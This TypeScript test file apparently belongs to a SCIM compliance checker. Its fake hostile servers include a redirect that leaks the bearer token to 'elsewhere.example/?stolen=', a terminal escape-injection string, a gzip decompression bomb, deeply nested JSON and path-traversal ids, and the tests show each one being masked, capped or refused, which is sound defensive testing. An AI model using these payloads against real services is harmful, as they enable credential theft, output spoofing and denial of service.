/**
 * What a hostile SCIM server can do to the checker's output and its process: echo the token and
 * password back for the reports to keep, answer JSON too deep to serialise, write control
 * characters into the terminal or the JUnit file, feed the OAuth client a decompression bomb,
 * hand back ids that walk out of the base URL — and what quitting the bench mid-check leaves
 * behind. Real HTTP servers on loopback; each test failed on the code before its fix.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterEach, describe, expect, it } from 'vitest';
import type { BenchEvent } from '../../shared/api';
import { dispatch } from '../commands';
import { startBench } from '../test/bench-harness';
import { MASK } from '../traffic/redact';
import { htmlReport } from './check-html';
import { send, type CheckTarget } from './check-http';
import { jsonReport, junitReport, terminalReport } from './check-report';
import { parseCheck } from './check-cli';
import { runCheck } from './check-run';
import { CHECK_STEPS, profilesFor } from './check-steps';
import { ConsoleCheck } from './console-check';
import { clientCredentials } from './oauth-client';

const TOKEN = 'secret-token-of-the-user';
const servers: http.Server[] = [];
afterEach(() => {
  for (const s of servers.splice(0)) {
    s.closeAllConnections();
    s.close();
  }
});

async function serve(handler: http.RequestListener): Promise<string> {
  const server = http.createServer(handler);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const targetOf = (baseUrl: string): CheckTarget => ({
  baseUrl,
  authorization: async () => `Bearer ${TOKEN}`,
  userAgent: 'check',
  timeoutMs: 2000,
});

const run = (baseUrl: string, profile: 'entra' | 'okta' | 'rfc' | 'all') =>
  runCheck({ target: targetOf(baseUrl), steps: [...CHECK_STEPS], profiles: profilesFor(profile) });

/** A server that answers every request with one JSON body (and status). */
const answering = (status: number, body: string) =>
  serve((_req, res) => {
    res.writeHead(status, { 'Content-Type': 'application/scim+json' });
    res.end(body);
  });

/**
 * A small SCIM server that repeats what it was sent: every answer quotes the request body and the
 * Authorization header, in the body and in a response header.
 */
function echoingScim() {
  const seen: Array<{ method: string; url: string; body: Record<string, unknown> | null }> = [];
  const store = new Map<string, Record<string, unknown>>();
  let n = 0;
  const handler: http.RequestListener = (req, res) => {
    let raw = '';
    req.on('data', (c) => (raw += c));
    req.on('end', () => {
      const body = raw ? (JSON.parse(raw) as Record<string, unknown>) : null;
      seen.push({ method: req.method!, url: req.url!, body });
      const reply = (status: number, json: Record<string, unknown>) => {
        res.writeHead(status, {
          'Content-Type': 'application/scim+json',
          'X-Echo-Authorization': String(req.headers.authorization),
        });
        res.end(
          JSON.stringify({
            ...json,
            echoedRequest: body,
            detail: `you sent Authorization: ${req.headers.authorization}`,
          }),
        );
      };
      const [, kind, id] = /^\/scim\/v2\/(Users|Groups)(?:\/([^/?]+))?/.exec(req.url!) ?? [];
      if (!kind) return reply(404, { schemas: ['urn:ietf:params:scim:api:messages:2.0:Error'], status: '404' });
      if (req.method === 'POST' && !id) {
        const created = { ...body, id: `id${++n}`, meta: { resourceType: kind.slice(0, -1), location: 'x' } };
        store.set(created.id, created);
        return reply(201, created);
      }
      if (!id)
        return reply(200, {
          schemas: ['urn:ietf:params:scim:api:messages:2.0:ListResponse'],
          totalResults: 0,
          startIndex: 1,
          itemsPerPage: 0,
          Resources: [],
        });
      const found = store.get(id);
      if (!found) return reply(404, { schemas: ['urn:ietf:params:scim:api:messages:2.0:Error'], status: '404' });
      if (req.method === 'DELETE') store.delete(id);
      if (req.method === 'PUT') store.set(id, { ...body, id });
      return reply(200, store.get(id) ?? found); // PATCH: answered, not applied
    });
  };
  return { handler, seen };
}

const everyReport = (report: Awaited<ReturnType<typeof run>>) => ({
  json: jsonReport(report),
  html: htmlReport(report),
  terminal: terminalReport(report),
  junit: junitReport(report),
});

describe('secrets the server repeats never reach a report', () => {
  it('a server echoing the request body (the Okta password) and the Authorization header: no report holds either', async () => {
    const s = echoingScim();
    const report = await run(`${await serve(s.handler)}/scim/v2`, 'okta');
    const password = s.seen.map((r) => r.body?.password).find((p) => typeof p === 'string') as string;
    expect(password).toMatch(/^Check-/);
    for (const [name, text] of Object.entries(everyReport(report))) {
      expect(text.includes(TOKEN), `${name} holds the token`).toBe(false);
      expect(text.includes(password), `${name} holds the password`).toBe(false);
    }
    // The answers are still there to read, with the secrets masked, as the objects JSON.parse makes.
    expect(jsonReport(report)).toContain(`you sent Authorization: ${MASK}`);
    const answer = report.results.flatMap((r) => r.exchanges).find((ex) => ex.status === 201)!.json;
    expect(Object.getPrototypeOf(answer)).toBe(Object.prototype);
  });

  it('a redirect whose Location carries the token: the problem that quotes it does not', async () => {
    const base = await serve((req, res) => {
      res.writeHead(302, { Location: `https://elsewhere.example/?stolen=${req.headers.authorization}` });
      res.end();
    });
    const report = await run(`${base}/scim/v2`, 'rfc');
    expect(report.results[0]!.reason).toMatch(/redirected \(302\) to https:\/\/elsewhere\.example/);
    for (const [name, text] of Object.entries(everyReport(report)))
      expect(text.includes(TOKEN), `${name} holds the token`).toBe(false);
  });

  it('an OAuth client secret the app repeats (it issued it) is masked too', async () => {
    const clientSecret = 'client-secret-of-the-app';
    const tokenUrl = await serve((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ access_token: 'issued-access-token', expires_in: 3600 }));
    });
    const base = await answering(
      400,
      JSON.stringify({ schemas: ['urn:ietf:params:scim:api:messages:2.0:Error'], detail: `client ${clientSecret}` }),
    );
    const command = parseCheck(
      [`${base}/scim/v2`, '--client-id', 'c', '--client-secret', clientSecret, '--token-url', `${tokenUrl}/token`],
      {},
    );
    const report = await runCheck({ target: command.target, steps: [...CHECK_STEPS], profiles: profilesFor('rfc') });
    expect(report.results.some((r) => r.reason.includes(`client ${MASK}`))).toBe(true);
    for (const [name, text] of Object.entries(everyReport(report)))
      expect(text.includes(clientSecret), `${name} holds the client secret`).toBe(false);
  });
});

describe('an answer too deep to serialise gives a verdict, not a crash', () => {
  const deep = (levels: number) => `{"schemas":[],"x":${'['.repeat(levels)}${']'.repeat(levels)}}`;

  it('a 10 KB answer nested 5,000 levels deep: the JSON report still writes, and says why it was not read', async () => {
    const base = await answering(200, deep(5000));
    const report = await run(`${base}/scim/v2`, 'rfc');
    expect(() => jsonReport(report)).not.toThrow();
    const ex = await send(targetOf(`${base}/scim/v2`), 'GET', '/Users');
    expect(ex.json).toBeUndefined();
    expect(ex.problem).toBe('the answer is nested deeper than 64 levels; it was not read');
    // 64 levels (the object, then 63 arrays) are still read; 65 are not.
    const at = await send(targetOf(`${await answering(200, deep(63))}/scim/v2`), 'GET', '/Users');
    expect(at.problem).toBeNull();
    const past = await send(targetOf(`${await answering(200, deep(64))}/scim/v2`), 'GET', '/Users');
    expect(past.problem).toMatch(/deeper than 64/);
  });

  it("a deeply nested answer: the console's run, whose events are serialised, still ends with a report", async () => {
    const base = await answering(200, deep(5000));
    const events: string[] = [];
    const check = new ConsoleCheck((event) => events.push(JSON.stringify(event)));
    const report = await check.run({ baseUrl: `${base}/scim/v2`, token: TOKEN, profile: 'rfc', allowExisting: false });
    expect(report.results.length).toBeGreaterThan(0);
    expect(events.length).toBe(report.results.length);
  });

  it('a console listener that throws cannot end the run: every step runs, and what was created is removed', async () => {
    const s = echoingScim();
    const base = await serve(s.handler);
    const seen: BenchEvent[] = [];
    const check = new ConsoleCheck((event) => {
      seen.push(event);
      throw new RangeError('Maximum call stack size exceeded');
    });
    const report = await check.run({ baseUrl: `${base}/scim/v2`, token: TOKEN, profile: 'okta', allowExisting: false });
    expect(seen.length).toBe(report.results.length);
    expect(report.results.length).toBe(CHECK_STEPS.filter((st) => profilesFor('okta').includes(st.profile)).length);
    expect(report.cleanup.removed).toBeGreaterThan(0);
    expect(s.seen.filter((r) => r.method === 'DELETE').length).toBe(report.cleanup.removed);
  });
});

describe('server text in the terminal and in JUnit', () => {
  const detail = 'no\n\nPASS  Disable the user with active as the string "False"\u001b[2K\u001b]0;pwned\u0007\u009b31m';
  const errorBody = JSON.stringify({ schemas: ['urn:ietf:params:scim:api:messages:2.0:Error'], status: '400', detail });

  it('a server-written detail cannot forge a line or send an escape sequence to the terminal', async () => {
    const text = terminalReport(await run(`${await answering(400, errorBody)}/scim/v2`, 'rfc'));
    expect(text).toContain('PASS  Disable the user'); // still shown, on the line it came in
    const controls = [...text].filter((c) => c !== '\n' && (c < ' ' || (c >= '\u007f' && c <= '\u009f')));
    expect(controls).toEqual([]);
    expect(text).not.toMatch(/^PASS {2}Disable/m);
  });

  it('control characters and lone surrogates in an answer leave the JUnit file well-formed XML 1.0', async () => {
    const body = JSON.stringify({
      schemas: ['urn:ietf:params:scim:api:messages:2.0:Error'],
      status: '400',
      detail: 'a\u0000b\u0001c\u0008d\u000be\u001ff\ufffeg\ud800h',
    });
    const xml = junitReport(await run(`${await answering(400, body)}/scim/v2`, 'rfc'));
    expect(xml).toContain('abcdefgh');
    // XML 1.0 §2.2: Char ::= #x9 | #xA | #xD | [#x20-#xD7FF] | [#xE000-#xFFFD] | [#x10000-#x10FFFF]
    expect(xml).not.toMatch(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]/u);
  });
});

describe('the CLI', () => {
  it('--report html, as the usage and docs/check.md offer it, is accepted', () => {
    const command = parseCheck(['https://app.example.com/scim/v2', '--token', 't', '--report', 'html'], {});
    expect(command.report).toBe('html');
  });
});

describe('OAuth client credentials', () => {
  const oauth = (tokenUrl: string) =>
    parseCheck(
      ['https://app.example.com/scim/v2', '--client-id', 'c', '--client-secret', 's', '--token-url', tokenUrl],
      {},
    );

  it('the client secret is sent to a token URL only over https, or over http to this machine', () => {
    expect(() => oauth('http://login.example.com/token')).toThrow(/--token-url.*https/);
    expect(() => oauth('https://user:pw@login.example.com/token')).toThrow(/without credentials/);
    expect(() => oauth('not a url')).toThrow(/not a URL/);
    expect(() => oauth('ftp://login.example.com/token')).toThrow(/https/);
    expect(() => oauth('http://127.0.0.1:8080/token')).not.toThrow();
    expect(() => oauth('https://login.example.com/oauth2/token')).not.toThrow();
  });

  it('the token answer is capped: a 50 KB gzip inflating to 50 MB is refused, not read whole', async () => {
    const inflated = 50 * 1024 * 1024;
    const bomb = gzipSync(
      Buffer.concat([Buffer.from('{"access_token":"t"'), Buffer.alloc(inflated, ' '), Buffer.from('}')]),
      { level: 9 },
    );
    const url = await serve((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Encoding': 'gzip' });
      res.end(bomb);
    });
    const result = await clientCredentials(`${url}/token`, 'id', 'secret', 10_000)().catch((e: Error) => e);
    expect(result).toBeInstanceOf(Error);
    expect((result as Error).message).toMatch(/the token URL's answer is larger than 64 KB/);
  });

  it('a token URL that sends its headers and then never the body is given up on at the timeout', async () => {
    const url = await serve((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.write('{"access_token":');
    });
    await expect(clientCredentials(`${url}/token`, 'id', 'secret', 300)()).rejects.toThrow(
      /the token URL did not answer within 0.3 s/,
    );
  });

  it('a token answer that is small and honest still gives the token', async () => {
    const url = await serve((_req, res) => {
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.end(JSON.stringify({ access_token: 'the-token', expires_in: 3600 }));
    });
    await expect(clientCredentials(`${url}/token`, 'id', 'secret', 2000)()).resolves.toBe('Bearer the-token');
  });
});

describe('no id the server hands back can walk a request out of the base URL', () => {
  it('dot segments, encoded or not, and fragments are refused before anything is sent', async () => {
    const received: string[] = [];
    const base = await serve((req, res) => {
      received.push(`${req.method} ${req.url}`);
      res.writeHead(204);
      res.end();
    });
    const target = targetOf(`${base}/scim/v2`);
    for (const path of [
      '/Users/..',
      '/Users/../..',
      '/Users/a/../../x',
      '/Users/.',
      '/Users/%2e%2E',
      '/Users/.%2e/Groups',
      '/Users/victim#alice',
      '/Users/..\\..',
      '/Users/.\t.',
    ]) {
      const ex = await send(target, 'DELETE', path);
      expect(ex.status, path).toBeNull();
      expect(ex.problem, path).toMatch(/^refused: the request would leave the SCIM base/);
    }
    expect(received).toEqual([]);
    // A base without a path: a path that is not below it cannot move the request to another host.
    const refused = async (baseUrl: string, path: string) => (await send(targetOf(baseUrl), 'GET', path)).problem;
    expect(await refused('http://localhost', '.evil.example/Users')).toMatch(
      /^refused: .*resolves to http:\/\/localhost\.evil\.example\/Users/,
    );
    expect(await refused(base, '0/Users')).toMatch(/^refused: .*not a URL/); // its port would be ten times the base's
    // What stays below the base is sent as it is.
    await send(target, 'DELETE', '/Users/a..b');
    await send(target, 'GET', '/Users?filter=userName%20eq%20%22..%22');
    expect(received).toEqual(['DELETE /scim/v2/Users/a..b', 'GET /scim/v2/Users?filter=userName%20eq%20%22..%22']);
  });
});

describe('an interruption ends the request in flight', () => {
  it('Ctrl+C or Cancel during a request the server holds ends it at once, and what was created is still removed', async () => {
    const users = new Map<string, Record<string, unknown>>();
    let held!: () => void;
    const patchArrived = new Promise<void>((resolve) => (held = resolve));
    const deleted: string[] = [];
    const base = await serve((req, res) => {
      let raw = '';
      req.on('data', (chunk) => (raw += chunk));
      req.on('end', () => {
        const reply = (status: number, body?: unknown) => {
          res.writeHead(status, { 'Content-Type': 'application/scim+json' });
          res.end(body === undefined ? undefined : JSON.stringify(body));
        };
        const id = /\/Users\/([^/?]+)/.exec(req.url!)?.[1];
        if (req.method === 'PATCH') return held(); // never answered
        if (req.method === 'POST') {
          const user = { ...(JSON.parse(raw) as object), id: `u${users.size + 1}` };
          users.set(user.id, user);
          return reply(201, user);
        }
        if (req.method === 'DELETE' && id) return (deleted.push(id), users.delete(id), reply(204));
        if (id) return users.has(id) ? reply(200, users.get(id)) : reply(404);
        reply(200, { schemas: ['urn:ietf:params:scim:api:messages:2.0:ListResponse'], totalResults: 0, Resources: [] });
      });
    });
    const interrupt = new AbortController();
    const running = runCheck({
      target: {
        baseUrl: `${base}/scim/v2`,
        authorization: async () => `Bearer ${TOKEN}`,
        userAgent: 'check',
        timeoutMs: 10_000,
      },
      steps: [...CHECK_STEPS],
      profiles: profilesFor('entra'),
      signal: interrupt.signal,
    });
    await patchArrived;
    const started = Date.now();
    interrupt.abort();
    const report = await running;
    // Before, the run waited out the held request's 10 s timeout before it could clean up.
    expect(Date.now() - started).toBeLessThan(2000);
    expect(report.stopped).toMatch(/Interrupted/);
    expect(report.results.find((r) => r.exchanges.some((e) => e.method === 'PATCH'))!.reason).toMatch(/interrupted/);
    expect(deleted).toEqual(['u1']);
    expect(users.size).toBe(0);
  });
});

describe('quitting the bench while a console check runs', () => {
  it('engine.close (what serve does on SIGINT, and the desktop app on quit) removes what the check created first', async () => {
    const users = new Map<string, unknown>();
    let created!: () => void;
    const firstCreate = new Promise<void>((r) => (created = r));
    let n = 0;
    const base = await serve((req, res) => {
      let raw = '';
      req.on('data', (c) => (raw += c));
      req.on('end', () => {
        const reply = (status: number, body?: unknown) => {
          res.writeHead(status, { 'Content-Type': 'application/scim+json' });
          res.end(body === undefined ? undefined : JSON.stringify(body));
        };
        const id = /\/Users\/([^/?]+)/.exec(req.url!)?.[1];
        if (req.method === 'POST' && req.url!.endsWith('/Users')) {
          const user = { ...JSON.parse(raw), id: `u${++n}` };
          users.set(user.id, user);
          created();
          return reply(201, user);
        }
        if (req.method === 'DELETE' && id) return reply(users.delete(id) ? 204 : 404);
        // Everything else: a slow but honest server, so the run is mid-way when the bench quits.
        setTimeout(() => {
          if (req.method === 'GET' && !id)
            return reply(200, {
              schemas: ['urn:ietf:params:scim:api:messages:2.0:ListResponse'],
              totalResults: 0,
              Resources: [],
            });
          return reply(id && users.has(id) ? 200 : 404, id ? users.get(id) : undefined);
        }, 300);
      });
    });
    const bench = await startBench();
    const running = dispatch(bench.engine.handlers, 'check:run', {
      url: `${base}/scim/v2`,
      token: 't',
      profile: 'entra',
    });
    await firstCreate;
    await bench.engine.close(2000);
    expect([...users.keys()]).toEqual([]); // nothing left on the server when the process exits
    const report = await running;
    expect(report.stopped).toMatch(/Interrupted/);
    expect(report.cleanup.removed).toBeGreaterThan(0);
  });

  it('a check cannot start once the bench is closing', async () => {
    const check = new ConsoleCheck(() => {});
    await check.stop(1000);
    await expect(
      check.run({ baseUrl: 'http://127.0.0.1:9/scim/v2', token: TOKEN, profile: 'rfc', allowExisting: false }),
    ).rejects.toThrow(/shutting down/);
  });

  it('quitting waits for the run at most its time limit, even when the server never answers', async () => {
    const base = await serve(() => {}); // holds every request
    const check = new ConsoleCheck(() => {});
    const running = check.run({ baseUrl: `${base}/scim/v2`, token: TOKEN, profile: 'rfc', allowExisting: false });
    await new Promise((r) => setTimeout(r, 50));
    const started = Date.now();
    await check.stop(300);
    expect(Date.now() - started).toBeLessThan(1000);
    servers[0]!.closeAllConnections(); // the run then ends: its request is cut, and no step follows
    await expect(running).resolves.toMatchObject({ stopped: expect.stringMatching(/Interrupted/) });
  });
});
